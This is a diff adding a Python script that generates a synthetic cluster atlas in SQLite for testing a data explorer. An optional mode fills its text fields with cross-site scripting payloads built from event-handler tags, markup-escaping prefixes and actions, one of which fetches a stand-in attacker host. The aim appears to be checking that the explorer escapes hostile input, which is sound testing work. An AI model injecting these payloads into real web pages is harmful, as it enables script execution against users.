@@ -1,0 +1,140 @@
+# SPDX-License-Identifier: Apache-2.0
+"""A made-up atlas for tests of the explorer: python3 make_atlas.py SCHEMA OUT [N] [--hostile FILE]
+
+N base clusters (10000) in 4 levels, 12 facets, 52 weeks, placed in clouds on the map. With --hostile
+the titles, summaries, phrases and facet values are the strings of a JSON list and 500 more that try
+to be markup or script; there are as many clusters as that needs. Deterministic.
+"""
+import json
+import math
+import random
+import sqlite3
+import sys
+
+WORDS = ("recipe travel python story music garden loan resume lesson physics contract poem server "
+         "query trip diet school video budget letter photo song chess history exam email novel "
+         "visa rent bread logic robot market lyrics fitness chapter homework code table design").split()
+FACETS = {f"facet {c}": [f"{c}{i}" for i in range(1, 7)] for c in "abcdefghi"}
+FACETS = {"language": ["English", "Spanish", "Chinese", "German", "Japanese", "Arabic"],
+          "concern": ["1", "2", "3"], "turns": ["1", "2", "3-5", "6-10", "11+"], **FACETS}
+
+
+def own_payloads():
+    tags = ["img src=x onerror=", "svg onload=", "body onload=", "input autofocus onfocus=",
+            "details open ontoggle=", "video src=x onerror=", "audio src=x onerror=",
+            "marquee onstart=", "iframe onload=", "object data=x onerror="]
+    acts = ["alert(1)", "window.live=1", "eval('window.live=1')", "document.title='live'",
+            "fetch('http://evil.example/')"]
+    shells = ["<{}>", '"><{}>', "'><{}>", "</script><{}>", "</title><{}>", "--><{}>", "</style><{}>",
+              "<<{}>", "]]><{}>", "\u202e<{}>"]
+    return [shell.format(tag + act) for tag in tags for act in acts for shell in shells]
+
+
+def payloads(path):
+    with open(path, encoding="utf-8") as file:
+        known = [s.replace("\0", " ") for s in json.load(file)]
+    return [s for s in known + own_payloads() if s.strip()]
+
+
+def place(tree, draw):
+    """Each parent has a place, its children lie around it."""
+    around = {0: (0.5, 0.5, 0.36)}
+    for cluster, parent, _ in tree:
+        x, y, reach = around[parent]
+        angle, far = draw.uniform(0, 2 * math.pi), reach * math.sqrt(draw.random())
+        at = (min(0.97, max(0.03, x + far * math.cos(angle))),
+              min(0.97, max(0.03, y + far * math.sin(angle))))
+        around[cluster] = (*at, reach * 0.32)
+    return around
+
+
+def make_tree(n):
+    """(id, parent, level): 10 at the top, about the root of what is left in between."""
+    sizes = [10, max(10, n // 100), max(10, n // 12), n]
+    tree, first = [], 1
+    for depth, size in enumerate(sizes):
+        above = first - sizes[depth - 1] if depth else 0
+        for i in range(size):
+            parent = above + i * sizes[depth - 1] // size if depth else 0
+            tree.append((first + i, parent, 3 - depth))
+        first += size
+    return tree
+
+
+def fill(db, n, texts, draw):
+    tree = make_tree(n)
+    spots, size = place(tree, draw), {}
+    for cluster, parent, level in reversed(tree):
+        if level == 0:
+            size[cluster] = 15 + int(draw.paretovariate(1.3) * 12)
+        if parent:
+            size[parent] = size.get(parent, 0) + size[cluster]
+    total = sum(size[c] for c, parent, _ in tree if not parent)
+    facets = dict(FACETS)
+    if texts:
+        facets["facet a"] = texts[:40]
+    for i, (cluster, parent, level) in enumerate(tree):
+        title = texts[i % len(texts)] if texts else \
+            " ".join(draw.sample(WORDS, draw.randint(2, 5))).capitalize()
+        summary = texts[(i + 7) % len(texts)] if texts else f"About {title}. Often asked."
+        x, y, _ = spots[cluster]
+        n_here, withheld = size[cluster], 0 if texts else i % 97 == 96
+        db.execute("INSERT INTO cluster VALUES (?,?,?,?,?,?,?,?,?,?,?)", (
+            cluster, parent or None, level, withheld, None if withheld else title,
+            None if withheld else summary, n_here, max(5, n_here // 3), n_here / total, x, y))
+        for rank in range(1, 6):
+            phrase = texts[(i * 5 + rank) % len(texts)] if texts else draw.choice(WORDS)
+            db.execute("INSERT INTO cluster_phrase VALUES (?,?,?)", (cluster, rank, phrase))
+        for facet, values in facets.items():
+            for value in values:
+                if n_here * draw.random() > 60:
+                    n_cell = int(n_here * draw.uniform(0.1, 0.5))
+                    db.execute("INSERT INTO cluster_facet VALUES (?,?,?,?,?)",
+                               (cluster, facet, value, n_cell, n_cell / n_here))
+    fill_rest(db, tree, size, facets, total, draw)
+
+
+def fill_rest(db, tree, size, facets, total, draw):
+    for facet, values in facets.items():
+        for i, value in enumerate(dict.fromkeys(values)):
+            db.execute("INSERT INTO corpus_facet VALUES (?,?,?,?)",
+                       (facet, value, total // (i + 2), 1 / (i + 2)))
+    for week in range(52):
+        day = f"2025-{1 + week // 5:02d}-{1 + 6 * (week % 5):02d}"
+        db.execute("INSERT INTO period VALUES (?,?,?)", (week, day, total // 52))
+    for cluster, _, _ in tree:
+        if size[cluster] > 900:
+            for week in range(52):
+                wave = 1 + 0.5 * math.sin(cluster + week / 8)
+                db.execute("INSERT INTO cluster_period VALUES (?,?,?)",
+                           (cluster, week, int(size[cluster] / 52 * wave)))
+    cells = {}
+    xy = {row[0]: row[1:] for row in db.execute("SELECT id, x, y FROM cluster WHERE level = 0")}
+    for cluster, (x, y) in xy.items():
+        at = (int(x * 63.9), int(y * 63.9))
+        cells[at] = cells.get(at, 0) + size[cluster]
+    most = max(cells.values())
+    for (x, y), n in cells.items():
+        db.execute("INSERT INTO density VALUES (?,?,?)", (x, y, max(0.001, n / most)))
+    info = {"n_conversations": total, "n_accounts": total // 3, "has_accounts": "yes", "seed": 1,
+            "min_accounts": 5, "min_conversations": 15, "n_unclustered": 0, "version": "0.1.0",
+            "share_unclustered": 0, "n_clusters": len(tree), "n_withheld": 0, "profile": "none",
+            "period_step": "week", "first_day": "2025-01-01", "last_day": "2025-12-30"}
+    db.executemany("INSERT INTO run_info VALUES (?,?)", [(k, str(v)) for k, v in info.items()])
+
+
+def main():
+    schema, out = sys.argv[1:3]
+    texts = payloads(sys.argv[sys.argv.index("--hostile") + 1]) if "--hostile" in sys.argv else None
+    n = int(sys.argv[3]) if len(sys.argv) > 3 and sys.argv[3].isdigit() else 10000
+    if texts:
+        n = len(texts)
+    db = sqlite3.connect(out)
+    with open(schema, encoding="utf-8") as file:
+        db.executescript(file.read())
+    fill(db, n, texts, random.Random(1))
+    db.commit()
+    db.execute("VACUUM")
+
+
+main()
